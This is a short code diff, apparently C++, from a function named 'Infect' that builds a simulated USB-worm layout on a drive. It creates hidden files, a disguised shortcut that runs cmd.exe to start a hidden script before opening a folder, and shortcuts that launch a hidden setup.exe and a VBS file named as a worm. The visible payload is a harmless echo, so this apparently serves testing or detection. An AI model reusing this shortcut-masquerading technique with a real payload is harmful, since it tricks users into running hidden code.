@@ -85,7 +85,7 @@ inline void Infect(wchar_t d) {
   WriteBytes(at(L"Docs\\helper\\run.js"), "WScript.Echo(1)", kHidden);
   MakeShortcut(at(L"Docs\\Report.lnk"), L"C:\\windows\\system32\\cmd.exe", L"/c start helper\\run.js & start Report");
   MakeFolder(at(L"tools"));
-  WriteBytes(at(L"tools\\setup.exe"), kProgram);
+  WriteBytes(at(L"tools\\setup.exe"), kProgram, kHidden);  // a shortcut starting a hidden program
   MakeShortcut(at(L"Setup.lnk"), at(L"tools\\setup.exe"), L"");
   WriteBytes(at(L"tools\\launch.vbs"), kWormVbs);
   MakeShortcut(at(L"Games.lnk"), L"%windir%\\system32\\WScript.exe", L"\"\\tools\\launch.vbs\"");
